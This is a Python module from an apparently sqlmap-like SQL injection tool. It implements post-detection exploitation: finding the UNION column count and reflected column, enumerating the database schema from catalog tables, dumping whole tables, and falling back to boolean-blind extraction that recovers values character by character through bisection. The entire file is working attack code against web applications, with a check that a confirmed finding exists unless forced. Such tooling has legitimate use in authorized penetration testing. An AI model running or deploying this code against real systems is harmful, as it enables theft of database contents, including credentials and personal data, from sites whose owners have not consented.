"""Post-detection exploitation over the UNION channel, with a boolean-blind fallback.

Every statement sent here is a SELECT; nothing writes to the target database.
"""
from __future__ import annotations

import html
import logging
import random
import re
from dataclasses import dataclass, field

from .detector import CONFIRMED, THETA_SAME, Finding
from .dialects import SqlDialect, builtin_dialects
from .errors import (ExploitError, ExtractionAborted, ExtractionChannelError, TransportError,
                     UnionUnsupported)
from .httpengine import HttpEngine, ResponseSummary, Target, with_param
from .payloads import (BLIND_MAX_CODE, BLIND_MAX_LENGTH, BLIND_MIN_CODE, MAX_UNION_COLUMNS,
                       InjectionContext, Quoting, blind_compare_payload, blind_length_payload,
                       boolean_pair, new_marker, union_payload, union_select)
from .similarity import similarity

log = logging.getLogger(__name__)

SEPARATOR = "\x1f|\x1f"
DEFAULT_LIMIT = 1000


@dataclass(frozen=True)
class SchemaInfo:
    database_name: str
    tables: tuple[tuple[str, tuple[str, ...]], ...]
    complete: bool = True

    def __post_init__(self):
        names = [t for t, _ in self.tables]
        if len(set(names)) != len(names):
            raise ValueError("duplicate table names")
        if self.complete and any(not cols for _, cols in self.tables):
            raise ValueError("a complete schema lists columns for every table")

    @property
    def table_names(self) -> tuple[str, ...]:
        return tuple(t for t, _ in self.tables)

    def columns(self, table: str) -> tuple[str, ...]:
        for name, cols in self.tables:
            if name == table:
                return cols
        raise KeyError(table)


@dataclass(frozen=True)
class DumpResult:
    table: str
    columns: tuple[str, ...]
    rows: tuple[tuple[str, ...], ...]
    truncated: bool
    partial: bool = False

    def __post_init__(self):
        for row in self.rows:
            if len(row) != len(self.columns):
                raise ValueError("row width does not match the column list")

    def as_dicts(self) -> list[dict[str, str]]:
        return [dict(zip(self.columns, row)) for row in self.rows]


def _is_error(resp: ResponseSummary) -> bool:
    return resp.error_signature is not None or resp.status >= 500


def find_column_count(engine: HttpEngine, target: Target, ctx: InjectionContext,
                      falsy: ResponseSummary | None = None, theta_same: float = THETA_SAME) -> int:
    """Smallest column count whose all-NULL UNION neither errors nor looks like the falsy page."""
    if falsy is None:
        _, f = boolean_pair(ctx, target.base_value)
        falsy = engine.send_request(with_param(target, f.text))
    for n in range(1, MAX_UNION_COLUMNS + 1):
        resp = engine.send_request(with_param(target, union_payload(ctx, n).text))
        if _is_error(resp):
            continue
        if similarity(resp.body_tokens, falsy.body_tokens) >= theta_same:
            continue
        return n
    raise UnionUnsupported(f"no UNION column count up to {MAX_UNION_COLUMNS} works")


def find_marker_column(engine: HttpEngine, target: Target, ctx: InjectionContext, n: int,
                       rng: random.Random | None = None) -> int:
    for col in range(1, n + 1):
        marker = new_marker(rng)
        resp = engine.send_request(with_param(target, union_payload(ctx, n, marker, col).text))
        if marker in resp.body:
            return col
    raise ExtractionChannelError("no column is rendered into the page")


class Exploiter:
    """Extraction session bound to one injectable target."""

    def __init__(self, engine: HttpEngine, target: Target, finding: Finding | None = None,
                 dialects: dict[str, SqlDialect] | None = None, force: bool = False,
                 quoting: str | None = None, seed: int | None = None,
                 theta_same: float = THETA_SAME):
        if finding is None and not force:
            raise ExploitError("exploitation needs a confirmed finding (or force)")
        if finding is not None and finding.confidence != CONFIRMED and not force:
            raise ExploitError("finding is only tentative")
        self.engine = engine
        self.target = target
        self.finding = finding
        self.dialects = dialects or builtin_dialects()
        self.theta_same = theta_same
        self.rng = random.Random(seed) if seed is not None else random.SystemRandom()
        q = quoting or (finding.context if finding and finding.context else None) or target.context_hint
        self.quoting = Quoting(q) if q in ("numeric", "single_quoted") else Quoting.NUMERIC
        guess = finding.dialect_guess if finding else None
        self.dialect: SqlDialect | None = self.dialects.get(guess) if guess else None
        self._channel: tuple[int, int] | None = None
        self._refs: tuple[ResponseSummary, ResponseSummary] | None = None
        self.requests = 0

    def _send(self, value: str) -> ResponseSummary:
        self.requests += 1
        return self.engine.send_request(with_param(self.target, value))

    def _ctx(self, dialect: SqlDialect | None = None) -> InjectionContext:
        d = dialect or self.dialect or next(iter(self.dialects.values()))
        return InjectionContext(self.quoting, d, "dash_dash" if "dash_dash" in d.comment_styles else d.comment_styles[0])

    # UNION channel

    def union_channel(self) -> tuple[int, int]:
        if self._channel is None:
            ctx = self._ctx()
            if self.finding and "columns" in self.finding.details:
                n = self.finding.details["columns"]
            else:
                n = find_column_count(self.engine, self.target, ctx, theta_same=self.theta_same)
            col = self.finding.details.get("marker_column") if self.finding else None
            if not col:
                col = find_marker_column(self.engine, self.target, ctx, n, self.rng)
            self._channel = (n, col)
        return self._channel

    def find_column_count(self) -> int:
        return self.union_channel()[0]

    def find_marker_column(self) -> int:
        return self.union_channel()[1]

    def _union_query(self, value_expr: str, tail: str, dialect: SqlDialect) -> list[str]:
        n, col = self.union_channel()
        start, end = new_marker(self.rng), new_marker(self.rng)
        wrapped = dialect.join([f"'{start}'", dialect.text(value_expr), f"'{end}'"])
        items = ["NULL"] * n
        items[col - 1] = wrapped
        resp = self._send(union_select(self._ctx(dialect), items, tail, all_rows=True))
        if _is_error(resp):
            raise ExtractionChannelError(f"extraction query failed (HTTP {resp.status})")
        return [html.unescape(m) for m in re.findall(f"{start}(.*?){end}", resp.body, re.S)]

    def union_values(self, value_expr: str, from_clause: str, limit: int | None = None,
                     dialect: SqlDialect | None = None) -> list[str]:
        """Every value of ``value_expr`` over ``from_clause``, one per result row."""
        dialect = dialect or self.dialect
        cap = f" LIMIT {int(limit)}" if limit is not None else ""
        values = self._union_query(value_expr, f"FROM {from_clause}{cap}", dialect)
        counted = self._union_query("COUNT(*)", f"FROM (SELECT 1 FROM {from_clause}{cap}) AS c", dialect)
        expected = int(counted[0]) if counted and counted[0].isdigit() else len(values)
        if len(values) >= expected:
            return values
        # the page renders fewer rows than the query returns; walk them one at a time
        out = []
        for i in range(expected):
            row = self._union_query(value_expr, f"FROM {from_clause} LIMIT 1 OFFSET {i}", dialect)
            if not row:
                raise ExtractionChannelError(f"row {i} did not come back through the channel")
            out.append(row[0])
        return out

    def _catalog(self, query: str, dialect: SqlDialect) -> list[str]:
        return self.union_values("q.name", f"({query}) AS q", dialect=dialect)

    def _resolve_dialect(self) -> list[SqlDialect]:
        if self.dialect is not None:
            return [self.dialect]
        return list(self.dialects.values())

    def enumerate_schema(self) -> SchemaInfo:
        """Database name plus every user table and its columns."""
        last_error: Exception | None = None
        for dialect in self._resolve_dialect():
            try:
                dbs = self._catalog(dialect.catalog_databases_query, dialect) \
                    if dialect.catalog_databases_query else []
            except (ExtractionChannelError, UnionUnsupported) as exc:
                last_error = exc
                continue
            self.dialect = dialect
            break
        else:
            if isinstance(last_error, UnionUnsupported) and self.finding and self.finding.technique == "boolean":
                return self._enumerate_blind()
            raise ExploitError(f"catalog queries failed: {last_error}")
        if not dbs:
            return SchemaInfo("", (), complete=False)
        db = dbs[0]
        tables = []
        complete = True
        for table in self._catalog(dialect.catalog_tables_query.format(database=db), dialect):
            try:
                cols = tuple(self._catalog(dialect.catalog_columns_query.format(database=db, table=table), dialect))
            except ExtractionChannelError:
                cols, complete = (), False
            tables.append((table, cols))
        return SchemaInfo(db, tuple(tables), complete and len(dbs) >= 1)

    def _enumerate_blind(self) -> SchemaInfo:
        dialect = self._blind_dialect()

        def listing(query: str) -> list[str]:
            count = int(self.blind_extract(f"SELECT COUNT(*) FROM ({query}) AS q") or 0)
            return [self.blind_extract(f"SELECT q.name FROM ({query}) AS q LIMIT 1 OFFSET {i}")
                    for i in range(count)]

        dbs = listing(dialect.catalog_databases_query)
        if not dbs:
            return SchemaInfo("", (), complete=False)
        db = dbs[0]
        tables = []
        for table in listing(dialect.catalog_tables_query.format(database=db)):
            cols = listing(dialect.catalog_columns_query.format(database=db, table=table))
            tables.append((table, tuple(cols)))
        return SchemaInfo(db, tuple(tables))

    def dump_table(self, table: str, limit: int = DEFAULT_LIMIT, schema: SchemaInfo | None = None) -> DumpResult:
        if limit < 0:
            raise ValueError("limit must be non-negative")
        schema = schema or self.enumerate_schema()
        try:
            columns = schema.columns(table)
        except KeyError:
            raise ExploitError(f"unknown table {table!r}") from None
        dialect = self.dialect
        sep = dialect.literal_chars(SEPARATOR)
        parts: list[str] = []
        for i, c in enumerate(columns):
            if i:
                parts.append(sep)
            parts.append(dialect.text(c))
        row_expr = dialect.join(parts)
        source = f"{schema.database_name}.{table}" if schema.database_name else table
        partial = False
        try:
            raw = self.union_values(row_expr, source, limit, dialect)
        except (ExtractionChannelError, TransportError) as exc:
            log.warning("extraction channel lost while dumping %s: %s", table, exc)
            raw, partial = [], True
        rows = []
        for line in raw:
            cells = tuple(line.split(SEPARATOR))
            if len(cells) != len(columns):
                partial = True
                continue
            rows.append(cells)
        return DumpResult(table, columns, tuple(rows), truncated=len(rows) >= limit, partial=partial)

    def dump_table_blind(self, table: str, limit: int = DEFAULT_LIMIT,
                         schema: SchemaInfo | None = None) -> DumpResult:
        """Cell-by-cell dump over the boolean-blind channel (slow, no UNION needed)."""
        if limit < 0:
            raise ValueError("limit must be non-negative")
        if schema is None:
            self._blind_dialect()
            schema = self._enumerate_blind()
        try:
            columns = schema.columns(table)
        except KeyError:
            raise ExploitError(f"unknown table {table!r}") from None
        source = f"{schema.database_name}.{table}" if schema.database_name else table
        count = int(self.blind_extract(f"SELECT COUNT(*) FROM {source}") or 0)
        rows = []
        for i in range(min(count, limit)):
            rows.append(tuple(self.blind_extract(f"SELECT {c} FROM {source} LIMIT 1 OFFSET {i}")
                              for c in columns))
        return DumpResult(table, columns, tuple(rows), truncated=len(rows) >= limit)

    # boolean-blind channel

    def _references(self) -> tuple[ResponseSummary, ResponseSummary]:
        if self._refs is None:
            ctx = self._ctx()
            _, falsy = boolean_pair(ctx, self.target.base_value)
            truthy_ref = self._send(self.target.base_value)
            falsy_ref = self._send(falsy.text)
            if similarity(truthy_ref.body_tokens, falsy_ref.body_tokens) >= self.theta_same:
                raise ExtractionChannelError("true and false pages are indistinguishable")
            self._refs = (truthy_ref, falsy_ref)
        return self._refs

    def ask(self, payload: str) -> bool:
        truthy_ref, falsy_ref = self._references()
        resp = self._send(payload)
        st = similarity(resp.body_tokens, truthy_ref.body_tokens)
        sf = similarity(resp.body_tokens, falsy_ref.body_tokens)
        if st >= self.theta_same and st > sf:
            return True
        if sf >= self.theta_same and sf > st:
            return False
        raise ExtractionAborted("response matches neither the true nor the false page", -1)

    def _blind_dialect(self) -> SqlDialect:
        """Pick the dialect whose string functions the target evaluates correctly."""
        if self.dialect is not None:
            return self.dialect
        base = self.target.base_value
        for d in self.dialects.values():
            ctx = self._ctx(d)
            try:
                if (self.ask(blind_length_payload(ctx, "'ab'", "=", 2, base).text)
                        and self.ask(blind_compare_payload(ctx, "'ab'", 2, "=", ord("b"), base).text)):
                    self.dialect = d
                    return d
            except ExtractionAborted:
                continue
        raise ExtractionChannelError("no configured dialect evaluates on this target")

    def blind_extract(self, expr: str) -> str:
        """Recover the text value of scalar SQL ``expr`` one bisection at a time."""
        return self.blind_extract_ex(expr)[0]

    def blind_extract_ex(self, expr: str) -> tuple[str, bool]:
        """Like :meth:`blind_extract`, also reporting whether the value was truncated."""
        self._references()
        ctx = self._ctx(self._blind_dialect())
        text_expr = ctx.dialect.text(f"({expr})")
        base = self.target.base_value

        lo, hi = 0, BLIND_MAX_LENGTH + 1
        while lo < hi:
            mid = (lo + hi) // 2
            try:
                answer = self.ask(blind_length_payload(ctx, text_expr, ">", mid, base).text)
            except ExtractionAborted as exc:
                raise ExtractionAborted(str(exc), 0) from None
            if answer:
                lo = mid + 1
            else:
                hi = mid
        truncated = lo > BLIND_MAX_LENGTH
        length = min(lo, BLIND_MAX_LENGTH)

        chars = []
        for pos in range(1, length + 1):
            lo, hi = BLIND_MIN_CODE, BLIND_MAX_CODE
            try:
                while lo < hi:
                    mid = (lo + hi) // 2
                    if self.ask(blind_compare_payload(ctx, text_expr, pos, ">", mid, base).text):
                        lo = mid + 1
                    else:
                        hi = mid
                ok = self.ask(blind_compare_payload(ctx, text_expr, pos, "=", lo, base).text)
            except ExtractionAborted as exc:
                raise ExtractionAborted(str(exc), pos) from None
            if not ok:
                raise ExtractionAborted(f"character {pos} failed confirmation", pos)
            chars.append(chr(lo))
        return "".join(chars), truncated


def enumerate_schema(engine: HttpEngine, target: Target, finding: Finding, **kw) -> SchemaInfo:
    return Exploiter(engine, target, finding, **kw).enumerate_schema()


def dump_table(engine: HttpEngine, target: Target, finding: Finding, table: str,
               limit: int = DEFAULT_LIMIT, **kw) -> DumpResult:
    return Exploiter(engine, target, finding, **kw).dump_table(table, limit)


def blind_extract(engine: HttpEngine, target: Target, finding: Finding, expr: str, **kw) -> str:
    return Exploiter(engine, target, finding, **kw).blind_extract(expr)
